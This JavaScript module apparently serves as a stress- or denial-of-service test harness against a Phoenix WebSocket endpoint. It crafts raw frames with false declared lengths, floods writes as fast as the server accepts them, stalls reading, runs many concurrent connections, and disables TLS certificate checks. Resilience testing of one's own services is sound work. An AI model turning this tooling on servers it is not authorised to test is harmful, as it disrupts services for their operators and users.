// One connection of an attacker: raw bytes, over TCP or TLS.
import net from "node:net";
import tls from "node:tls";

// What this process has done so far: connections and writes; links of a peer up
// to the node's handshake; states that came whole; joins that found no place.
export const done = { strikes: 0, linked: 0, whole: 0, full: 0 };

// A WebSocket frame of a client. `length` is what it claims.
export function frame(payload = "", { opcode = 1, fin = true, rsv = 0, masked = true, length } = {}) {
  const body = Buffer.isBuffer(payload) ? payload : Buffer.from(payload);
  const claimed = BigInt(length ?? body.length);
  const head = [(fin ? 0x80 : 0) | (rsv << 4) | opcode];
  const size = claimed < 126n ? 1 : claimed < 65_536n ? 2 : 8;
  head.push((masked ? 0x80 : 0) | (size === 1 ? Number(claimed) : size === 2 ? 126 : 127));
  for (let i = size === 1 ? 0 : size; i > 0; --i) head.push(Number((claimed >> BigInt(8 * (i - 1))) & 255n));
  // A mask of zeros leaves the bytes as they are.
  return Buffer.concat([Buffer.from(head), masked ? Buffer.alloc(4) : Buffer.alloc(0), body]);
}

export const message = (...elements) => frame(JSON.stringify(elements));

export const upgradeRequest = ({ query = "", headers = [] } = {}) => [
  `GET /socket/websocket?vsn=2.0.0${query} HTTP/1.1`, "Host: 127.0.0.1", "Connection: Upgrade", "Upgrade: websocket",
  "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", ...headers, "", ""].join("\r\n");

export class Stranger {
  constructor(target, { port = target.port, secure = target.secure, ...options } = {}) {
    this.target = target;
    this.received = 0;
    this.head = ""; // The first bytes that came.
    this.isClosed = false;
    const place = { host: target.host, port };
    this.socket = secure ? tls.connect({ ...place, rejectUnauthorized: false, ...options }) : net.connect(place);
    this.socket.on("error", () => {});
    this.socket.on("data", (bytes) => {
      this.received += bytes.length;
      if (this.head.length < 4096) this.head += bytes.toString("latin1");
      this.heard?.();
    });
    this.closed = new Promise((close) => this.socket.on("close", () => {
      this.isClosed = true;
      this.heard?.();
      close();
    }));
    this.opened = Promise.race([new Promise((done) => this.socket.on(secure ? "secureConnect" : "connect", done)), this.closed]);
  }

  static async open(target, options) {
    const result = new Stranger(target, options);
    await Promise.race([result.opened, rest(target)]); // A node that is held up opens nothing.
    done.strikes += 1;
    return result;
  }

  // A WebSocket; closed if the node did not want it.
  static async upgrade(target, options = {}) {
    const result = await Stranger.open(target, options);
    result.socket.write(upgradeRequest({ ...options, query: `${target.query ?? ""}${options.query ?? ""}` }));
    await result.until(() => result.head.includes("\r\n\r\n"));
    if (!result.head.startsWith("HTTP/1.1 101")) result.end();
    return result;
  }

  static async join(target, topic, payload = {}, options) {
    const result = await Stranger.upgrade(target, options);
    result.write(message("1", "1", topic, "phx_join", payload));
    await result.until(() => result.head.includes('"phx_reply"'));
    return result;
  }

  // Resolves when it holds, or the connection is closed, or the attack is over.
  async until(holds) {
    while (!holds() && !this.isClosed && !this.target.isOver()) {
      await new Promise((done) => {
        const timer = setTimeout(done, 50);
        this.heard = () => {
          clearTimeout(timer);
          done();
        };
      });
    }
  }

  write(bytes) { return !this.isClosed && this.socket.write(bytes); }

  // Writes what `make` makes as fast as the node takes it. Once a round others
  // of the same process have their turn.
  async flood(make) {
    let count = 0;
    while (!this.isClosed && !this.target.isOver()) {
      const isTaken = this.socket.write(make(count++));
      done.strikes += 1;
      if (isTaken) await new Promise(setImmediate);
      else await Promise.race([new Promise((done) => this.socket.once("drain", done)), this.closed, rest(this.target)]);
    }
    return count;
  }

  stopReading() { this.socket.pause(); }
  end() { this.socket.destroy(); }
}

export const pause = (ms) => new Promise((done) => setTimeout(done, ms));

// Until the attack is over.
export async function rest(target) {
  while (!target.isOver()) await pause(20);
}

// `count` attackers at the same time, each starting over until the time is up;
// what they return is added up.
export async function crowd(target, count, one) {
  let sum = 0;
  const attacker = async (index) => {
    while (!target.isOver()) {
      const more = await one(index);
      sum += more ?? 1;
      await new Promise(setImmediate);
    }
  };
  await Promise.all(Array.from({ length: count }, (_, index) => attacker(index)));
  return sum;
}
